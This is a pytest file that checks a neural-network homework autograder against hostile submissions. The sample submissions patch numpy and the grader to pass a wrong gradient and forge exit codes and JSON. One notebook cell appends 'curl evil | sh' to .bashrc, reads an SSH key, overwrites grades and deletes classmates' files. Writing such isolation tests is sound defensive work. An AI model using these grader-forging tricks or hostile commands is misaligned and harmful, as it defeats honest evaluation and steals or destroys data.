"""Hostile submissions: graded code that patches the grader, forges the exit code or the JSON, hangs in ways
an alarm cannot stop, crashes, floods the output or writes files. Each runs through the real command
(``python -m manual_backprop check``), and each test asserts the verdict, the exit code, exactly one JSON
document on stdout, a time bound, no process of the submission left behind and no file changed outside
the worker's scratch folder. The gradient graded is wrong (twice the right one) unless said otherwise, so
that any forgery would show as a PASS."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from nbformat import v4

from published_style import BACKWARD, published_cells, write_notebook
from sandbox_helpers import bwrap_problem

SRC = Path(__file__).resolve().parents[2] / "src"

# A wrong backward pass (every weight gradient doubled), and the helpers the hostile ones share.
HEAD = """\
import os, sys, signal, time, threading
import numpy as np
from manual_backprop import backward_pass as _right

def _wrong(all_weights, all_biases, all_f, all_h, y):
    dw, db = _right(all_weights, all_biases, all_f, all_h, y)
    return [2 * w for w in dw], db

def _linger(mark):
    # a process that would outlive the grading, named by the test's mark
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", mark])
"""


def _snapshot(folder: Path) -> dict:
    found = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            found[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def _leftovers(mark: str) -> list[int]:
    pids = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
                state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
            except OSError:
                continue
            if mark.encode() in cmdline and state != "Z":
                pids.append(int(entry))
    return pids


def check(tmp_path: Path, *args: str, bound: float = 90.0, files: dict | None = None):
    """Run ``python -m manual_backprop check --json ARGS`` in ``tmp_path`` (HOME there too): (exit code,
    the one JSON document, stderr). Asserts the time bound, one JSON document, nothing left running and
    no file of ``tmp_path`` changed."""
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    (home / ".bashrc").write_text("# the teacher's\n")
    for name, text in (files or {}).items():
        (tmp_path / name).write_text(text)
    before = _snapshot(tmp_path)
    cache = os.environ.get("MANUAL_BACKPROP_CACHE_DIR", os.path.expanduser("~/.cache/manual-backprop"))
    env = dict(os.environ, HOME=str(home), PYTHONPATH=str(SRC), MANUAL_BACKPROP_CACHE_DIR=cache)
    started = time.monotonic()
    result = subprocess.run([sys.executable, "-m", "manual_backprop", "check", "--json", *args],
                            cwd=tmp_path, env=env, capture_output=True, text=True, timeout=bound + 60)
    seconds = time.monotonic() - started
    assert seconds < bound, f"took {seconds:.1f} s"
    lines = [line for line in result.stdout.splitlines() if line.strip()]
    assert len(lines) == 1, result.stdout[:2000] + result.stderr[-2000:]
    document = json.loads(lines[0])
    time.sleep(0.2)
    assert not _leftovers(str(tmp_path)), "a process of the submission outlived the grading"
    assert _snapshot(tmp_path) == before, "a file outside the worker's folder changed"
    assert document["ok"] is (result.returncode == 0)
    return result.returncode, document, result.stderr


def _student(tmp_path: Path, body: str) -> str:
    folder = tmp_path / "submissions"
    folder.mkdir(exist_ok=True)
    path = folder / "student.py"
    path.write_text(HEAD.replace("MARK", tmp_path.name) + textwrap.dedent(body))
    return f"{path}:backward_pass"


def _errors(document) -> dict:
    return {case["name"]: case["error"] or "" for case in document["report"]["cases"]}


def test_patching_numpy_the_oracle_the_report_and_builtins_cannot_pass_a_wrong_gradient(tmp_path):
    spec = _student(tmp_path, """\
        import builtins, oracle
        import manual_backprop.compare.report as report, manual_backprop.compare.compare as compare
        np.abs = lambda x, *a, **k: np.zeros(np.shape(x))
        np.allclose = lambda *a, **k: True
        np.concatenate = lambda *a, **k: np.zeros(1)
        oracle.jax_gradients = _wrong
        report.BackwardReport.ok = property(lambda self: True)
        builtins.all = lambda *a: True
        backward_pass = _wrong
        """)
    code, document, _ = check(tmp_path, "--backward", spec)
    assert code == 1 and document["ok"] is False
    assert all(not case["ok"] for case in document["report"]["cases"])


def test_exit_codes_and_json_cannot_be_forged(tmp_path):
    mark = str(tmp_path)
    spec = _student(tmp_path, f"""\
        import atexit, posix
        def backward_pass(all_weights, all_biases, all_f, all_h, y):
            K = len(all_weights) - 1
            if K == 0:
                posix._exit(0)
            if K == 1:
                threading.Thread(target=lambda: posix._exit(0), daemon=True).start()
                time.sleep(2)
            if K == 2:
                atexit.register(lambda: os._exit(0))
                sys.exit(0)
            if K == 3:
                for fd in range(1, 30):
                    try:
                        os.write(fd, b'{{"ok": true}}\\n')
                    except OSError:
                        pass
            if K == 4:
                if os.fork() == 0:
                    os.write(1, b'{{"schema_version": 1, "ok": true}}\\n')
                    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", "{mark}"])
            return _wrong(all_weights, all_biases, all_f, all_h, y)
        """)
    code, document, stderr = check(tmp_path, "--backward", spec, "--timeout", "5")
    assert code == 1 and document["ok"] is False
    errors = _errors(document)
    assert "exited with code 0" in errors["K=0"]
    assert "exited with code 0" in errors["K=1"]
    assert "sys.exit(0)" in errors["K=2"]
    assert '"ok": true' in stderr  # what it wrote to "stdout" went to stderr


def test_signal_games_and_c_calls_are_stopped_from_outside(tmp_path):
    spec = _student(tmp_path, """\
        def backward_pass(all_weights, all_biases, all_f, all_h, y):
            K = len(all_weights) - 1
            if K == 0:
                signal.signal(signal.SIGALRM, signal.SIG_IGN)
                while True:
                    pass
            if K == 1:
                signal.setitimer(signal.ITIMER_REAL, 0)
                while True:
                    pass
            if K == 2:
                while True:
                    try:
                        while True:
                            pass
                    except BaseException:
                        pass
            if K == 3:
                signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
                time.sleep(100)  # in C, with the alarm blocked
            return _wrong(all_weights, all_biases, all_f, all_h, y)
        """)
    started = time.monotonic()
    code, document, _ = check(tmp_path, "--backward", spec, "--timeout", "0.5", bound=60)
    assert code == 1
    errors = _errors(document)
    for name in ("K=0", "K=1", "K=2", "K=3 square"):
        assert "did not return within 0.5 s" in errors[name], (name, errors[name])
    assert time.monotonic() - started < 60


def test_threads_tracing_recursion_segfaults_memory_and_closed_output(tmp_path):
    spec = _student(tmp_path, """\
        import ctypes
        def backward_pass(all_weights, all_biases, all_f, all_h, y):
            K = len(all_weights) - 1
            if K == 0:
                threading.Thread(target=lambda: time.sleep(300)).start()  # not a daemon
                sys.settrace(lambda *a: None)
            if K == 1:
                ctypes.string_at(0)
            if K == 2:
                sys.setrecursionlimit(10**7)
                nested = []
                for _ in range(10**6):
                    nested = [nested]
                repr(nested)  # a million C frames
            if K == 3:
                np.ones(2**31)  # 16 GiB, over --memory
            if K == 4:
                os.close(1)
                os.close(2)
            return _wrong(all_weights, all_biases, all_f, all_h, y)
        """)
    code, document, _ = check(tmp_path, "--backward", spec, "--timeout", "5", "--memory", "1")
    assert code == 1
    errors = _errors(document)
    assert "SIGSEGV" in errors["K=1"]
    assert "died with SIG" in errors["K=2"] or "RecursionError" in errors["K=2"], errors["K=2"]
    assert "MemoryError" in errors["K=3 square"] or "died" in errors["K=3 square"]
    assert document["report"]["cases"][0]["error_kind"] is None  # graded: wrong values, no error


def test_huge_output_is_capped_and_counted(tmp_path):
    spec = _student(tmp_path, """\
        def backward_pass(all_weights, all_biases, all_f, all_h, y):
            sys.stdout.write("x" * 3_000_000)
            os.write(2, b"y" * 3_000_000)
            return _wrong(all_weights, all_biases, all_f, all_h, y)
        """)
    code, document, stderr = check(tmp_path, "--backward", spec)
    assert code == 1
    assert len(stderr) < 2 * 2**20
    assert "more bytes of the graded code's output were not shown" in stderr


HOSTILE_CELLS = """\
import os, ctypes, signal, time
open("oracle.py", "w").write("def jax_gradients(*a, **k):\\n    raise SystemExit(0)\\n")
open(os.path.expanduser("~/.bashrc"), "a").write("curl evil | sh\\n")
open("../grades.csv", "w").write("student,grade\\nme,100\\n")
for name in os.listdir("."):
    if name.startswith("classmate"):
        os.remove(name)
try:
    secret = open(os.path.expanduser("~/.ssh/id_rsa")).read()
except OSError:
    secret = None
print("the secret:", secret)"""


def test_a_notebook_that_writes_files_crashes_and_hangs_in_cells(tmp_path):
    wrong = BACKWARD.replace("return all_dl_dweights", "return [2 * w for w in all_dl_dweights]")
    cells = published_cells(backward=wrong)
    cells[2:2] = [v4.new_code_cell(source) for source in (
        HOSTILE_CELLS, "import ctypes\nctypes.string_at(0)",
        "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})\ntime.sleep(100)")]
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "classmate.py").write_text("def backward_pass(*a): pass\n")
    notebook = write_notebook(folder / "nb.ipynb", cells)
    code, document, _ = check(tmp_path, "--notebook", str(notebook), "--timeout", "1", bound=90)
    assert code == 1 and document["reports"]["backward_pass"]["ok"] is False
    assert document["reports"]["compute_network_output"]["ok"] is True
    errors = document["notebook_run"]["errors"]
    assert any("SIGSEGV" in error for error in errors), errors
    assert any("did not finish within 1 s" in error for error in errors), errors
    # the second run finds no oracle.py written in the folder the command runs in
    code, document, _ = check(tmp_path, "--notebook", str(notebook), "--timeout", "1", bound=90)
    assert code == 1 and not (tmp_path / "oracle.py").exists()


def test_a_local_oracle_py_cannot_stand_in_for_ours(tmp_path):
    spec = _student(tmp_path, "backward_pass = _wrong\n")
    forged = "from manual_backprop import manual_gradients\n" \
             "def jax_gradients(*a, **k):\n    dw, db = manual_gradients(*a, **k)\n" \
             "    return [2 * w for w in dw], db\n"
    code, document, _ = check(tmp_path, "--backward", spec, files={"oracle.py": forged})
    assert code == 1 and document["ok"] is False


def test_one_submissions_patch_cannot_change_anothers_grade(tmp_path):
    from manual_backprop.grading.backward import check_backward
    from manual_backprop.grading.isolation import Session

    patcher = tmp_path / "a"
    patcher.mkdir()
    (patcher / "a.py").write_text(HEAD + "np.abs = lambda x, *a, **k: np.zeros(np.shape(x))\n"
                                        "np.allclose = lambda *a, **k: True\nbackward_pass = _right\n")
    wrong = tmp_path / "b"
    wrong.mkdir()
    (wrong / "b.py").write_text(HEAD + "backward_pass = _wrong\n")
    with Session(echo=None) as session:
        a = session.load(f"{patcher / 'a.py'}:backward_pass")
        b = session.load(f"{wrong / 'b.py'}:backward_pass")
        assert check_backward(a.function, timeout=10).ok
        assert not check_backward(b.function, timeout=10).ok
    import numpy as np

    assert np.abs(-1.0) == 1.0  # nothing reached this process


@pytest.mark.parametrize("mode", ["returns", "raises"])
def test_the_proxy_mirrors_changes_in_place_and_exceptions(tmp_path, mode):
    import numpy as np

    from manual_backprop.grading.isolation import Session
    from manual_backprop.usercode import call_user, describe_exception

    (tmp_path / "f.py").write_text(textwrap.dedent(f"""\
        def f(a, b, c, d, y):
            c[0][...] = 7
            c.append(1.5)
            y *= 2
            if {mode == "raises"}:
                raise KeyError("no such layer")
            return [a[0] * 2], (3, None)
        """))
    with Session(echo=None) as session:
        proxy = session.load(f"{tmp_path / 'f.py'}:f").function
        c, y = [np.zeros((2, 2))], np.ones(3)
        first = c[0]
        result = call_user(proxy, ([np.ones(2)], [], c, [], y), timeout=10)
    assert c[0] is first and (first == 7).all() and c[1] == 1.5 and (y == 2).all()
    if mode == "raises":
        assert result.status == "raised" and result.error_type == "KeyError"
        assert describe_exception(result.exception) == "KeyError: 'no such layer'"
        assert "f.py:6" in result.error
    else:
        assert result.ok and (result.value[0][0] == 2).all() and result.value[1] == (3, None)


@pytest.mark.skipif(bwrap_problem() is not None, reason=f"bubblewrap unusable: {bwrap_problem()}")
def test_under_the_sandbox_files_outside_and_the_network_are_out_of_reach(tmp_path):
    key = tmp_path / "answer_key.csv"
    key.write_text("student,grade\n")
    spec = _student(tmp_path, f"""\
        import socket
        def backward_pass(all_weights, all_biases, all_f, all_h, y):
            for path in ({str(key)!r}, {str(tmp_path / "grades.csv")!r}, os.path.expanduser("~/.bashrc")):
                try:
                    open(path, "a").write("me,100\\n")
                except OSError:
                    pass
            try:
                connection = socket.create_connection(("127.0.0.1", 22), timeout=1)
                connection.sendall(open({str(key)!r}).read().encode())
            except OSError:
                pass
            return _wrong(all_weights, all_biases, all_f, all_h, y)
        """)
    code, document, _ = check(tmp_path, "--backward", spec, "--sandbox",
                              files={"grades.csv": "student,grade\n"})
    assert code == 1 and document["ok"] is False  # and check() found no file changed


def test_ctrl_c_during_a_check_leaves_no_process_of_the_submission(tmp_path):
    import signal

    mark = str(tmp_path / "linger")  # the command's own command line holds tmp_path
    spec = _student(tmp_path, f"""\
        def backward_pass(all_weights, all_biases, all_f, all_h, y):
            _linger({str(tmp_path / "linger")!r})
            time.sleep(120)
        """)
    env = dict(os.environ, PYTHONPATH=str(SRC))
    process = subprocess.Popen([sys.executable, "-m", "manual_backprop", "check", "--backward", spec,
                                "--timeout", "100"], cwd=tmp_path, env=env, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not _leftovers(mark):
        time.sleep(0.2)
    assert _leftovers(mark), "the submission never started"
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=30)
    assert process.returncode == 130 and "interrupted" in err
    time.sleep(0.5)
    assert not _leftovers(mark)
